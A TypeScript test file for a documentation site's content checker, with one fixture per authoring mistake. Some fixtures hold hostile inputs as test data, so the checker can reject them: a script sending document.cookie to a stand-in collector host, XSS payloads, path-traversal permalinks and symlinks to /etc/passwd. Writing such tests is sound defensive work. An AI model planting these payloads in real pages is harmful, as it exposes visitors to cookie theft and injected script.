import { existsSync } from "node:fs";
import { readFile, rm } from "node:fs/promises";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { type Finding, formatFinding } from "../../src/checks/finding.ts";
import { PROJECT_ROOT } from "../helpers/site.ts";
import { CONNECTION_GUIDES, checkFixture, TUTORIAL_FILE, TUTORIAL_URL, tutorialText } from "./fixture-tutorial.ts";

/**
 * One small fixture per class of mistake: a copy of the site with one change, checked. Each must
 * produce exactly the one finding that names the mistake, in the author's file, at its line.
 * The copies leave out the connection guides (content/integrations/, content/destinations/):
 * no case touches them, the site checks clean without them, and rendering them was much of each check.
 */

const check = (files: Record<string, string | Uint8Array>, links: Record<string, string> = {}) => checkFixture(files, CONNECTION_GUIDES, links);
interface Case {
  name: string;
  files: Record<string, string | Uint8Array>;
  /** Symbolic links to make, by path: their targets. */
  links?: Record<string, string>;
  expected: Pick<Finding, "file" | "line" | "severity"> & { message: RegExp; column?: number };
}

const tutorial = (change: (lines: string[]) => void) => ({ [TUTORIAL_FILE]: tutorialText(change) });
/** A plain page at `content/common/<name>.md` with these front-matter lines (line 2 on), then a body. */
const plainPage = (name: string, ...lines: string[]) => ({
  [`content/common/${name}.md`]: ["---", `title: ${name}`, "layout: page", ...lines, "---", "Text.", ""].join("\n"),
});
const ipData = await readFile(path.join(PROJECT_ROOT, "_data/stitch/ip-addresses.yml"), "utf8");
const regionsData = await readFile(path.join(PROJECT_ROOT, "_data/stitch/regions.yml"), "utf8");
const siteData = await readFile(path.join(PROJECT_ROOT, "_data/site.yml"), "utf8");
const uiData = await readFile(path.join(PROJECT_ROOT, "_data/ui.yml"), "utf8");
const noteInclude = await readFile(path.join(PROJECT_ROOT, "_includes/note.html"), "utf8");

/** A page whose line 7 is `line`. */
const RAW_PAGE = "content/common/raw-html.md";
const pageWith = (line: string) => ({ [RAW_PAGE]: `---\ntitle: Raw HTML\nlayout: page\n---\nText.\n\n${line}\n` });
/** A text's bytes with one character written as Windows-1252 would (one byte, not UTF-8). */
const windows1252 = (text: string, char: string) => {
  const [before, after] = text.split(char) as [string, string];
  return Buffer.concat([Buffer.from(before), Buffer.of(char.charCodeAt(0)), Buffer.from(after)]);
};
const lineOf = (text: string, needle: string) => text.slice(0, text.indexOf(needle)).split("\n").length;
const siteLine = (key: string) => siteData.split("\n").findIndex((line) => line.startsWith(`${key}:`)) + 1;

const cases: Case[] = [
  {
    name: "malformed YAML front matter",
    files: tutorial((l) => (l[3] = 'summary: "never closed')),
    expected: { file: TUTORIAL_FILE, line: 4, severity: "error", message: /^invalid YAML: Missing closing "quote/ },
  },
  {
    name: "front matter without its closing ---",
    files: { "content/common/unclosed.md": "---\ntitle: Unclosed\nlayout: page\nNo closing line.\n" },
    expected: { file: "content/common/unclosed.md", line: 1, severity: "error", message: /front matter is not closed/ },
  },
  {
    name: "malformed data file",
    files: { "_data/ui.yml": "page-names:\n  dashboard: Stitch Dashboard\nbuttons:\n  add-integration: [Add\n" },
    expected: { file: "_data/ui.yml", line: 5, severity: "error", message: /^invalid YAML: Flow sequence/ },
  },
  {
    name: "tutorial without a title",
    files: tutorial((l) => (l[1] = "# no title")),
    expected: { file: TUTORIAL_FILE, line: 3, severity: "error", message: /^missing "title"/ },
  },
  {
    name: "step without content",
    files: tutorial((l) => {
      l[19] = "";
      l[20] = "";
    }),
    expected: { file: TUTORIAL_FILE, line: 18, severity: "error", message: /^step 2 has no "content"/ },
  },
  {
    name: "step without title",
    files: tutorial((l) => {
      l[13] = '  - anchor: "first-step"';
      l[14] = "    # (no title)";
    }),
    expected: { file: TUTORIAL_FILE, line: 14, severity: "error", message: /^step 1 has no "title"/ },
  },
  {
    name: "a wrong type",
    files: tutorial((l) => (l[13] = "  - title: [a, list]")),
    expected: { file: TUTORIAL_FILE, line: 14, severity: "error", message: /^"title" of step 1 must be text, not a list/ },
  },
  {
    name: "steps that are not a list",
    files: tutorial((l) => l.splice(13, 8, "  Just some text.")),
    expected: { file: TUTORIAL_FILE, line: 13, severity: "error", message: /^"steps" must be a list, not text/ },
  },
  {
    name: "a layout that does not exist",
    files: tutorial((l) => (l[4] = "layout: tutoral")),
    expected: {
      file: TUTORIAL_FILE,
      line: 5,
      severity: "error",
      message: /^layout "tutoral" does not exist in _includes\/layouts\/; did you mean "tutorial"\?/,
    },
  },
  {
    name: "duplicate step anchors",
    files: tutorial((l) => (l[18] = '    anchor: "first-step"')),
    expected: { file: TUTORIAL_FILE, line: 19, severity: "error", message: /duplicate anchor "first-step": already used by step 1/ },
  },
  {
    name: "an anchor that is not a valid id",
    files: tutorial((l) => (l[18] = '    anchor: "second step"')),
    expected: { file: TUTORIAL_FILE, line: 19, severity: "error", message: /"anchor" of step 2 "second step" is not a valid anchor/ },
  },
  {
    name: "two pages with the same permalink",
    files: { ...tutorial(() => {}), "content/common/zz-copy.md": `---\ntitle: Copy\nlayout: page\npermalink: ${TUTORIAL_URL}\n---\nCopy.\n` },
    expected: {
      file: "content/common/zz-copy.md",
      line: 4,
      severity: "error",
      message: new RegExp(`permalink "${TUTORIAL_URL}" is already the URL of ${TUTORIAL_FILE}`),
    },
  },
  {
    name: "two permalinks that are one output file",
    files: { ...tutorial(() => {}), "content/common/zz-copy.md": `---\ntitle: Copy\nlayout: page\npermalink: ${TUTORIAL_URL}.html\n---\nCopy.\n` },
    expected: {
      file: "content/common/zz-copy.md",
      line: 4,
      severity: "error",
      message: /is already the URL of content\/common\/databases\/checking-fixture.md/,
    },
  },
  {
    name: "a permalink holding quotes and angle brackets",
    files: tutorial((l) => (l[2] = `permalink: "${TUTORIAL_URL}\\"><script>x</script>"`)),
    expected: {
      file: TUTORIAL_FILE,
      line: 3,
      severity: "error",
      message: /^permalink "[^"]+\\"><script>x<\/script>" is not a valid URL path: it contains "\\""/,
    },
  },
  {
    name: "a permalink that climbs out of the base URL",
    files: tutorial((l) => (l[2] = "permalink: /../../outside")),
    expected: {
      file: TUTORIAL_FILE,
      line: 3,
      severity: "error",
      message: /^permalink "\/\.\.\/\.\.\/outside" is not a valid URL path: it has a "\.\." segment/,
    },
  },
  {
    name: "a permalink that would publish the page as the site's JavaScript",
    files: tutorial((l) => (l[2] = "permalink: /assets/site.js")),
    expected: { file: TUTORIAL_FILE, line: 3, severity: "error", message: /^permalink "\/assets\/site.js" is not a valid URL path: it ends in "\.js"/ },
  },
  {
    name: "a permalink that would write the page inside an asset",
    files: tutorial((l) => (l[2] = "permalink: /assets/site.css/")),
    expected: {
      file: TUTORIAL_FILE,
      line: 3,
      severity: "error",
      message: /^permalink "\/assets\/site.css\/" would be written inside \/docs\/assets\/site.css, which is the asset content\/assets\/site.css/,
    },
  },
  {
    name: "a permalink in the search index's folder",
    files: tutorial((l) => (l[2] = "permalink: /pagefind/index")),
    expected: {
      file: TUTORIAL_FILE,
      line: 3,
      severity: "error",
      message: /^permalink "\/pagefind\/index" lies in \/docs\/pagefind\/, the search index's folder/,
    },
  },
  {
    name: "two permalinks that differ only in letter case",
    files: { ...tutorial(() => {}), ...plainPage("zz-copy", `permalink: ${TUTORIAL_URL.toUpperCase()}`) },
    expected: {
      file: "content/common/zz-copy.md",
      line: 4,
      severity: "error",
      message: /differs only in letter case from \/docs\/common\/databases\/checking-fixture.html/,
    },
  },
  {
    name: "a page whose file name is not a URL path",
    files: { "content/common/my page.md": "---\ntitle: My page\nlayout: page\n---\nText.\n" },
    expected: {
      file: "content/common/my page.md",
      line: 1,
      severity: "error",
      message: /^this page's file name gives it the URL "\/common\/my page", which is not a valid URL path: it contains a space/,
    },
  },
  {
    name: "a redirect_from entry holding a line break",
    files: plainPage("moved", 'redirect_from: "/old\\n/evil 200"'),
    expected: {
      file: "content/common/moved.md",
      line: 4,
      severity: "error",
      message: /^redirect_from "\/old\\n\/evil 200" is not a valid URL path: it contains a line break/,
    },
  },
  {
    name: "a redirect_from entry that is not a site path",
    files: plainPage("moved", "redirect_from:", "  - /old-moved", "  - old-moved"),
    expected: {
      file: "content/common/moved.md",
      line: 6,
      severity: "error",
      message: /^redirect_from "old-moved" is not a valid URL path: it must start with "\/"/,
    },
  },
  {
    name: "a redirect_from entry that climbs out of the base URL",
    files: plainPage("moved", "redirect_from: /common/../../../etc/x"),
    expected: {
      file: "content/common/moved.md",
      line: 4,
      severity: "error",
      message: /^redirect_from "\/common\/\.\.\/\.\.\/\.\.\/etc\/x" is not a valid URL path: it has a "\.\." segment/,
    },
  },
  {
    name: "a redirect_from entry that is the page's own URL",
    files: plainPage("moved", "redirect_from:", "  - /common/moved"),
    expected: { file: "content/common/moved.md", line: 5, severity: "error", message: /^redirect_from "\/common\/moved" is the page's own URL: remove it/ },
  },
  {
    name: "a redirect_from entry another page claims first",
    files: { ...plainPage("a-moved", "redirect_from: /shared-old"), ...plainPage("b-moved", "summary: B", "redirect_from: /shared-old") },
    expected: {
      file: "content/common/b-moved.md",
      line: 5,
      severity: "error",
      message: /^redirect_from "\/shared-old" is already the redirect_from of content\/common\/a-moved.md: an old URL can lead to one page only/,
    },
  },
  {
    name: "a redirect_from entry over another page",
    files: plainPage("moved", "redirect_from: /integrations"),
    expected: {
      file: "content/common/moved.md",
      line: 4,
      severity: "error",
      message: /^redirect_from "\/integrations" is already the URL of content\/integrations.md: remove it/,
    },
  },
  {
    name: "a redirect_from entry over a later page",
    files: { ...plainPage("a-moved", "redirect_from: /common/z-page"), ...plainPage("z-page") },
    expected: {
      file: "content/common/a-moved.md",
      line: 4,
      severity: "error",
      message: /^redirect_from "\/common\/z-page" is already the URL of content\/common\/z-page.md/,
    },
  },
  {
    name: "a redirect_from entry over an asset",
    files: plainPage("moved", "redirect_from: /assets/site.js"),
    expected: {
      file: "content/common/moved.md",
      line: 4,
      severity: "error",
      message: /^redirect_from "\/assets\/site.js" is already the asset content\/assets\/site.js/,
    },
  },
  {
    name: "a redirect_from entry over a file the build generates",
    files: plainPage("moved", "redirect_from: /sitemap.xml"),
    expected: {
      file: "content/common/moved.md",
      line: 4,
      severity: "error",
      message: /^redirect_from "\/sitemap.xml" is already the sitemap, which the build writes/,
    },
  },
  {
    name: "a redirect_from entry in the search index's folder",
    files: plainPage("moved", "redirect_from: /pagefind/pagefind.js"),
    expected: {
      file: "content/common/moved.md",
      line: 4,
      severity: "error",
      message: /^redirect_from "\/pagefind\/pagefind.js" lies in \/docs\/pagefind\/, the search index's folder/,
    },
  },
  {
    name: "a base URL that climbs out of the site",
    files: { "_data/site.yml": siteData.replace(/^baseurl:.*$/m, "baseurl: /docs/../..") },
    expected: {
      file: "_data/site.yml",
      line: siteLine("baseurl"),
      severity: "error",
      message: /^baseurl "\/docs\/\.\.\/\.\." can't be used: it has a "\.\." segment/,
    },
  },
  {
    name: "a site URL that is not a scheme and host",
    files: { "_data/site.yml": siteData.replace(/^url:.*$/m, 'url: "https://www.stitchdata.com\\nDisallow: /"') },
    expected: {
      file: "_data/site.yml",
      line: siteLine("url"),
      severity: "error",
      message: /^url "https:\/\/www.stitchdata.com\\nDisallow: \/" can't be used: it must be the site's scheme and host/,
    },
  },
  {
    name: "a page without front matter",
    files: { "content/common/bare.md": "<script>alert(1)</script>\n\nNo front matter.\n" },
    expected: {
      file: "content/common/bare.md",
      line: 1,
      severity: "error",
      message: /^this page has no front matter: add front matter with a title and layout/,
    },
  },
  {
    name: "an empty page file",
    files: { "content/common/empty.html": "" },
    expected: { file: "content/common/empty.html", line: 1, severity: "error", message: /^this page has no front matter/ },
  },
  {
    name: "a page that is only a ---",
    files: { "content/common/dashes.liquid": "---" },
    expected: { file: "content/common/dashes.liquid", line: 1, severity: "error", message: /^this page has no front matter/ },
  },
  {
    name: "a page without a layout",
    // Its body is checked with the default layout (a <script> in it would be a finding of its own).
    files: { "content/common/no-layout.md": "---\ntitle: No layout\n---\nText.\n" },
    expected: { file: "content/common/no-layout.md", line: 2, severity: "error", message: /^missing "layout".*default layout "page"/ },
  },
  {
    name: "a layout without the Content-Security-Policy",
    files: {
      "_includes/layouts/bare.html":
        '<!DOCTYPE html>\n<html lang="en">\n<head>\n<title>{{ title | escape }}</title>\n</head>\n<body>\n{{ content }}\n</body>\n</html>\n',
      "content/common/bare-layout.md": "---\ntitle: Bare layout\nsummary: A page\nlayout: bare\n---\nText.\n",
    },
    expected: {
      file: "content/common/bare-layout.md",
      line: 4,
      severity: "error",
      message: /^the page \/docs\/common\/bare-layout.html has no Content-Security-Policy .* \(layout "bare"\)/,
    },
  },
  {
    name: "a page that is a link to a file outside the site",
    files: {},
    links: { "content/common/pw.md": "/etc/passwd" },
    expected: {
      file: "content/common/pw.md",
      line: 1,
      severity: "error",
      message: /^this file is not read: it is a link to \/etc\/passwd, outside the site's folder/,
    },
  },
  {
    name: "an asset that is a link to a file outside the site",
    files: {},
    links: { "content/assets/hosts.txt": "/etc/hosts" },
    expected: {
      file: "content/assets/hosts.txt",
      line: 1,
      severity: "error",
      message: /^this file is not read: it is a link to \/etc\/hosts, outside the site's folder/,
    },
  },
  {
    name: "an include folder that is a link outside the site",
    files: {},
    links: { "_includes/system": "/etc" },
    expected: { file: "_includes/system", line: 1, severity: "error", message: /^this file is not read: it is a link to \/etc, outside the site's folder/ },
  },
  {
    name: "a data file that is a link outside the site",
    files: {},
    links: { "_data/passwords.yml": "/etc/passwd" },
    expected: { file: "_data/passwords.yml", line: 1, severity: "error", message: /^this file is not read: it is a link to \/etc\/passwd/ },
  },
  {
    name: "a link to nothing",
    files: {},
    links: { "content/common/gone.md": "no-such-file.md" },
    expected: { file: "content/common/gone.md", line: 1, severity: "error", message: /^this file is not read: it is a link to something that does not exist/ },
  },
  {
    name: "a folder link that loops",
    files: {},
    links: { "content/common/again": ".." },
    expected: { file: "content/common/again", line: 1, severity: "error", message: /^this file is not read: it is a link to a folder it is in/ },
  },
  {
    name: "a missing include",
    files: tutorial((l) => (l[20] = "      {% include shared/no-such-file.html %}")),
    expected: {
      file: TUTORIAL_FILE,
      line: 21,
      column: 7,
      severity: "error",
      message: new RegExp(`^include "shared/no-such-file.html" does not exist.*asked for by ${TUTORIAL_FILE}`),
    },
  },
  {
    name: "a heading level that is not a number (it becomes a tag name)",
    files: tutorial((l) => (l[20] = '      {% include shared/stitch-ip-addresses.html heading-level="3 class=x" %}')),
    expected: {
      file: "_includes/shared/stitch-ip-addresses-body.html",
      line: 12,
      severity: "error",
      message: new RegExp(`a heading level must be a whole number from 1 to 6, not "3 class=x".*included by ${TUTORIAL_FILE}:21`),
    },
  },
  {
    name: "an include path that leaves _includes/",
    files: tutorial((l) => (l[20] = "      {% include ../_data/links.yml %}")),
    expected: { file: TUTORIAL_FILE, line: 21, severity: "error", message: /^include path "..\/_data\/links.yml" leaves _includes\// },
  },
  {
    name: "an undefined data key",
    files: tutorial((l) => (l[8] = "  See the [guide]({{ link.connections.ssh-rdz | prepend: site.baseurl }}).")),
    expected: {
      file: TUTORIAL_FILE,
      line: 9,
      column: 22,
      severity: "error",
      message: /^undefined variable or data key "link.connections.ssh-rdz": "link.connections" has no key "ssh-rdz"; did you mean "ssh-rds"\?/,
    },
  },
  {
    name: "an undefined variable in a page body",
    files: { "content/common/body-page.md": "---\ntitle: Body page\nlayout: page\n---\nFirst line.\n\nSee {{ no_such_variable }}.\n" },
    expected: { file: "content/common/body-page.md", line: 7, severity: "error", message: /^undefined variable or data key "no_such_variable"/ },
  },
  {
    name: "an undefined variable inside an include",
    files: { "_includes/note.html": '<div class="callout">\n{{ include.content | markdownify }}\n{{ include.kind }}\n</div>\n' },
    expected: {
      file: "_includes/note.html",
      line: 3,
      severity: "error",
      message:
        /^undefined variable or data key "include.kind".*\(included by content\/common\/databases\/setting-up-ssh-tunnel-for-amazon-web-services.md:18\)/,
    },
  },
  {
    name: "an unknown filter",
    files: tutorial((l) => (l[20] = "      {{ 'Done.' | markdownfy }}")),
    expected: { file: TUTORIAL_FILE, line: 21, severity: "error", message: /^unknown filter "markdownfy"; did you mean "markdownify"\?/ },
  },
  {
    name: "a Liquid syntax error",
    files: tutorial((l) => (l[20] = "      {% for step in %}")),
    expected: { file: TUTORIAL_FILE, line: 21, severity: "error", message: /^Liquid syntax error/ },
  },
  {
    name: "an internal link to no page",
    files: tutorial((l) => (l[20] = "      See [nowhere]({{ site.baseurl }}/common/nowhere).")),
    expected: { file: TUTORIAL_FILE, line: 21, severity: "error", message: /^link "\/docs\/common\/nowhere" resolves to no page/ },
  },
  {
    name: "an internal link without the base URL",
    files: tutorial((l) => (l[20] = "      See [integrations](/integrations).")),
    expected: { file: TUTORIAL_FILE, line: 21, severity: "error", message: /^link "\/integrations" resolves to no page: the path lacks the base URL "\/docs"/ },
  },
  {
    name: "a fragment that names no element",
    files: tutorial((l) => (l[16] = "      Open [the second step](#secnd-step).")),
    expected: {
      file: TUTORIAL_FILE,
      line: 17,
      severity: "error",
      message: /^link "#secnd-step": this page has no element with id "secnd-step"; did you mean "#second-step"\?/,
    },
  },
  {
    name: "a fragment on another page",
    files: tutorial((l) => (l[20] = "      See [the FAQ]({{ link.account.security-faq | prepend: site.baseurl }}#no-such-question).")),
    expected: {
      file: TUTORIAL_FILE,
      line: 21,
      severity: "error",
      message: /page "\/docs\/account-security\/stitch-security" has no element with id "no-such-question"/,
    },
  },
  {
    name: "a missing image",
    files: tutorial((l) => (l[20] = "      ![Diagram]({{ '/assets/diagram.png' | relative_url }})")),
    expected: { file: TUTORIAL_FILE, line: 21, severity: "error", message: /^image "\/docs\/assets\/diagram.png" does not exist/ },
  },
  {
    name: "a missing asset",
    files: {
      "content/common/video-page.md":
        "---\ntitle: Video page\nlayout: page\n---\nText.\n\n<video src=\"{{ '/assets/intro.mp4' | relative_url }}\" controls></video>\n",
    },
    expected: { file: "content/common/video-page.md", line: 7, severity: "error", message: /^asset "\/docs\/assets\/intro.mp4" does not exist/ },
  },
  {
    name: "a missing image with a name markdown percent-encodes",
    files: tutorial((l) => (l[20] = "      ![Schéma]({{ site.baseurl }}/assets/schéma.png)")),
    expected: { file: TUTORIAL_FILE, line: 21, severity: "error", message: /^image "\/docs\/assets\/sch%C3%A9ma.png" does not exist/ },
  },
  {
    name: "a missing image whose path is put together in Liquid",
    files: tutorial((l) => (l[20] = "      {% assign diagram = 'tunnel' %}![Diagram]({{ site.baseurl }}/assets/{{ diagram }}.png)")),
    expected: { file: TUTORIAL_FILE, line: 21, severity: "error", message: /^image "\/docs\/assets\/tunnel.png" does not exist/ },
  },
  {
    name: "a missing image in a raw <img> with an escaped ampersand",
    files: tutorial((l) => (l[20] = '      <img src="{{ site.baseurl }}/assets/before&amp;after.png" alt="Before and after">')),
    expected: { file: TUTORIAL_FILE, line: 21, severity: "error", message: /^image "\/docs\/assets\/before&after.png" does not exist/ },
  },
  {
    name: "an inline style in content (the policy ignores it)",
    files: pageWith('Some <span style="color: red">red</span> text.'),
    expected: {
      file: RAW_PAGE,
      line: 7,
      column: 12,
      severity: "warning",
      message: /^style="color: red" on <span> does nothing: the page's Content-Security-Policy allows only the site's own style sheets/,
    },
  },
  {
    name: "a <style> element in content",
    files: pageWith("<style>p { color: red }</style>"),
    expected: { file: RAW_PAGE, line: 7, column: 1, severity: "warning", message: /^<style> in the page's content does nothing/ },
  },
  {
    name: "a <script> in a page's content",
    files: pageWith("<script>fetch('https://collector.example/?c=' + document.cookie)</script>"),
    expected: { file: RAW_PAGE, line: 7, column: 1, severity: "error", message: /^<script> in the page's content: pages may not run scripts of their own/ },
  },
  {
    name: "an event-handler attribute in raw HTML",
    files: pageWith('<p onclick="alert(1)">Click me</p>'),
    expected: { file: RAW_PAGE, line: 7, column: 4, severity: "error", message: /^event-handler attribute onclick="alert\(1\)" on <p>/ },
  },
  {
    name: "a javascript: URL in a raw link",
    files: pageWith('<a href=" JavaScript:alert(1)">Open</a>'),
    expected: { file: RAW_PAGE, line: 7, column: 4, severity: "error", message: /^"JavaScript:alert\(1\)" in href of <a>: a javascript: URL runs script/ },
  },
  {
    name: "a javascript: URL through a kramdown attribute list",
    files: tutorial((l) => (l[20] = '      Read [the guide](https://example.com){:href="javascript:alert(1)"}.')),
    expected: { file: TUTORIAL_FILE, line: 21, column: 46, severity: "error", message: /^"javascript:alert\(1\)" in href of <a>/ },
  },
  {
    name: "an event handler through a kramdown attribute list",
    files: tutorial((l) => (l[20] = '      Read [the guide](https://example.com){:onmouseover="alert(1)"}.')),
    expected: { file: TUTORIAL_FILE, line: 21, column: 46, severity: "error", message: /^event-handler attribute onmouseover="alert\(1\)" on <a>/ },
  },
  {
    name: "a markdown link to a javascript: URL (which markdown shows as text)",
    files: tutorial((l) => (l[20] = "      [Run the check](javascript:alert(1)) first.")),
    expected: { file: TUTORIAL_FILE, line: 21, column: 21, severity: "error", message: /^markdown link to "javascript:alert\(1\)" is not a link/ },
  },
  {
    name: "a javascript: link in the navigation (once, not on every page)",
    files: {
      "_data/site.yml": siteData.replace(
        "        url: /account-security/stitch-security\n",
        '        url: /account-security/stitch-security\n      - title: Status\n        url: "javascript:alert(document.cookie)"\n',
      ),
    },
    expected: {
      file: "_data/site.yml",
      line: lineOf(siteData, "url: /account-security/stitch-security") + 2,
      severity: "error",
      message: /^"javascript:alert\(document.cookie\)" in href of <a>.* \(on content\/.* and \d+ other pages\)$/,
    },
  },
  {
    name: "an image from another site",
    files: tutorial((l) => (l[20] = "      ![Diagram](https://images.example.com/tunnel.png)")),
    expected: {
      file: TUTORIAL_FILE,
      line: 21,
      severity: "warning",
      message:
        /^<img src="https:\/\/images.example.com\/tunnel.png"> loads from another site \(images.example.com\): the page's Content-Security-Policy allows only this site's own files/,
    },
  },
  {
    name: "raw HTML in a data value",
    files: { "_data/ui.yml": uiData.replace(/^( {2}[\w-]+: )(.+)$/m, '$1"$2<span onmouseover=alert(1)>!</span>"') },
    expected: {
      file: "_data/ui.yml",
      line: lineOf(uiData, uiData.match(/^ {2}[\w-]+: /m)![0]),
      severity: "error",
      message: /^event-handler attribute onmouseover="alert\(1\)" on <span>.*\(on content\//,
    },
  },
  {
    name: "invalid UTF-8 in a page",
    files: {
      [TUTORIAL_FILE]: windows1252(
        tutorialText((l) => (l[20] = "      Done, café.")),
        "é",
      ),
    },
    expected: {
      file: TUTORIAL_FILE,
      line: 21,
      column: 16,
      severity: "error",
      message: /^invalid UTF-8: byte 0xE9 \("é" in Windows-1252\) is not UTF-8 text.*save the file as UTF-8$/,
    },
  },
  {
    name: "invalid UTF-8 in a data file",
    files: { "_data/ui.yml": windows1252(`# Names in the Stitch app ©\n${uiData}`, "©") },
    expected: { file: "_data/ui.yml", line: 1, column: 27, severity: "error", message: /^invalid UTF-8: byte 0xA9 \("©" in Windows-1252\)/ },
  },
  {
    name: "a NUL byte in an include",
    files: { "_includes/note.html": noteInclude.replace("\n", "\n\u0000") },
    expected: { file: "_includes/note.html", line: 2, column: 1, severity: "error", message: /^NUL byte \(U\+0000\)/ },
  },
  {
    name: "an unclosed tag in a step title",
    files: tutorial((l) => (l[13] = '  - title: "Open <b>the file"')),
    expected: {
      file: TUTORIAL_FILE,
      line: 14,
      column: 18,
      severity: "error",
      message: /^"<b>" in the title of step 1 is not closed: browsers carry it on over the rest of the page/,
    },
  },
  {
    name: "a closing tag a step title did not open",
    files: tutorial((l) => (l[17] = '  - title: "Second step</div>"')),
    expected: {
      file: TUTORIAL_FILE,
      line: 18,
      column: 24,
      severity: "error",
      message: /^"<\/div>" in the title of step 2 closes an element the title did not open/,
    },
  },
  {
    name: "an unclosed disclosure in a step's content (it folds the later steps away)",
    files: tutorial((l) => (l[16] = "      <details><summary>More</summary> Open [the second step](#second-step).")),
    expected: {
      file: TUTORIAL_FILE,
      line: 17,
      column: 7,
      severity: "error",
      message: /^"<details>" in the content of step 1 is not closed: the rest of the page ends up inside it/,
    },
  },
  {
    name: "a closing tag in a page's text that closes the layout's own element",
    files: pageWith("Text.</article>"),
    expected: { file: RAW_PAGE, line: 7, column: 6, severity: "error", message: /^"<\/article>" in the page's text closes an element the text did not open/ },
  },

  {
    name: "an invalid IP address",
    files: { "_data/stitch/ip-addresses.yml": ipData.replace("52.204.228.32/32", "52.204.228.320/32") },
    expected: {
      file: "_data/stitch/ip-addresses.yml",
      line: 7,
      severity: "error",
      message: /^"52.204.228.320\/32" is not an IPv4 or IPv6 address .* in "stitch-app"$/,
    },
  },
  {
    name: "an invalid CIDR prefix",
    files: { "_data/stitch/ip-addresses.yml": ipData.replace("3.126.102.29/32", "3.126.102.29/33") },
    expected: {
      file: "_data/stitch/ip-addresses.yml",
      line: 11,
      severity: "error",
      message: /^"3.126.102.29\/33" has a prefix length above \/32 in "stitch-app-europe"$/,
    },
  },
  {
    name: "an address listed twice (overlapping blocks)",
    files: { "_data/stitch/ip-addresses.yml": ipData.replace("52.204.230.227/32", "52.204.223.208/32") },
    expected: {
      file: "_data/stitch/ip-addresses.yml",
      line: 8,
      severity: "error",
      message: /^"52.204.223.208\/32" in "stitch-app" overlaps "52.204.223.208\/32"/,
    },
  },
  {
    name: "a region naming an IP list that does not exist",
    files: { "_data/stitch/regions.yml": regionsData.replace("ip-list: stitch-app-europe", "ip-list: stitch-app-eu") },
    expected: {
      file: "_data/stitch/regions.yml",
      line: 8,
      severity: "error",
      message: /^region "europe" uses ip-list "stitch-app-eu", which .* does not define/,
    },
  },
  {
    name: "unrendered Liquid in the output",
    files: tutorial((l) => (l[20] = '      {% include note.html content="Read {{ link.account.security-faq }} first." %}')),
    expected: { file: TUTORIAL_FILE, line: 21, severity: "error", message: /^unrendered Liquid "\{\{ link.account.security-faq \}\}"/ },
  },
  {
    name: "an unapplied kramdown attribute list in the output",
    files: tutorial((l) => (l[20] = "      Read [the guide](https://example.com){:target=new")),
    expected: { file: TUTORIAL_FILE, line: 21, severity: "error", message: /^kramdown attribute list "\{:target=new" was not applied/ },
  },
  {
    name: "an unknown front-matter key",
    files: tutorial((l) => (l[9] = "requirments:")),
    expected: { file: TUTORIAL_FILE, line: 10, severity: "warning", message: /^unknown key "requirments"; did you mean "requirements"\?/ },
  },
  {
    name: "an unknown key in a step",
    files: tutorial((l) => l.splice(19, 0, '    anchr: "second"')),
    expected: { file: TUTORIAL_FILE, line: 20, severity: "warning", message: /^unknown key "anchr" in step 2; did you mean "anchor"\?/ },
  },
  {
    name: "a duplicate key in a data file (Jekyll keeps the last)",
    files: { "_data/ui.yml": uiData.replace("  dashboard: Stitch Dashboard\n", "  dashboard: Dashboard\n  dashboard: Stitch Dashboard\n") },
    expected: { file: "_data/ui.yml", line: 5, column: 3, severity: "warning", message: /^duplicate key "dashboard": Jekyll uses this last one/ },
  },
  {
    name: "a second YAML document in a data file (Jekyll reads the first)",
    files: { "_data/ui.yml": `${uiData}---\nignored: true\n` },
    expected: { file: "_data/ui.yml", line: lineOf(`${uiData}---\nignored`, "ignored"), severity: "warning", message: /^a second YAML document starts here/ },
  },
  {
    name: "a duplicate key in front matter",
    files: plainPage("twice", "summary: First", "summary: Second"),
    expected: { file: "content/common/twice.md", line: 5, severity: "warning", message: /^duplicate key "summary"/ },
  },
  {
    name: "mojibake",
    files: tutorial((l) => (l[20] = "      It isnâ€™t done yet.")),
    expected: { file: TUTORIAL_FILE, line: 21, column: 13, severity: "warning", message: /^mojibake "isnâ€™t": probably "isn’t"/ },
  },
  {
    name: "a step with empty content",
    files: tutorial((l) => {
      l[19] = '    content: ""';
      l[20] = "";
    }),
    expected: { file: TUTORIAL_FILE, line: 20, severity: "warning", message: /^step 2 has empty "content"/ },
  },
];

const roots: string[] = [];
afterAll(async () => {
  await Promise.all(roots.map((root) => rm(root, { recursive: true, force: true })));
});

/**
 * Cases that only add files of their own (new pages, links, a layout; the fixture tutorial, which
 * no project file is) and whose finding is in one of them can share one fixture site, when no two
 * write the same path: each case's files then hold its one finding, and nothing else has any. A
 * case that changes a file of the project (data, includes: every page reads them), or whose finding
 * lies in a file it did not write, is checked on a site of its own, as before.
 */
const pathsOf = ({ files, links }: Case) => [...Object.keys(files), ...Object.keys(links ?? {})];
const canShare = (c: Case) => pathsOf(c).includes(c.expected.file) && pathsOf(c).every((p) => !existsSync(path.join(PROJECT_ROOT, p)));

function siteGroups(all: Case[]): Case[][] {
  const groups: Case[][] = [];
  for (const c of all) {
    const paths = pathsOf(c);
    const group = canShare(c) ? groups.find((g) => g.every((other) => canShare(other) && !pathsOf(other).some((p) => paths.includes(p)))) : undefined;
    if (group) group.push(c);
    else groups.push([c]);
  }
  return groups;
}

type Checked = Awaited<ReturnType<typeof check>>;
/** Each case's site, checked when its first test asks for it (whichever test that is). */
const siteOf = new Map<Case, { group: Case[]; checked: () => Promise<Checked> }>();
for (const group of siteGroups(cases)) {
  let checked: Promise<Checked> | undefined;
  const checkGroup = () =>
    (checked ??= check(Object.assign({}, ...group.map((c) => c.files)), Object.assign({}, ...group.map((c) => c.links ?? {}))).then((result) => {
      roots.push(result.root);
      return result;
    }));
  for (const c of group) siteOf.set(c, { group, checked: checkGroup });
}

describe("each class of mistake is reported once, in the author's file, at its line", () => {
  it("the unchanged fixture tutorial checks clean", async () => {
    const result = await check(tutorial(() => {}));
    roots.push(result.root);
    expect(result.lines).toEqual([]);
  });

  for (const c of cases) {
    const { name, expected } = c;
    it(name, async () => {
      const { group, checked } = siteOf.get(c)!;
      const result = await checked();
      const paths = new Set(pathsOf(c));
      const own = group.length === 1 ? result.findings : result.findings.filter((f) => paths.has(f.file));
      // On a shared site, one finding per case and none outside the cases' own files.
      if (group.length > 1) expect(result.lines, `shared with: ${group.map((other) => other.name).join("; ")}`).toHaveLength(group.length);
      expect(own.map(formatFinding)).toHaveLength(1);
      const [found] = own;
      expect({ file: found!.file, line: found!.line, severity: found!.severity }).toEqual({
        file: expected.file,
        line: expected.line,
        severity: expected.severity,
      });
      expect(found!.message).toMatch(expected.message);
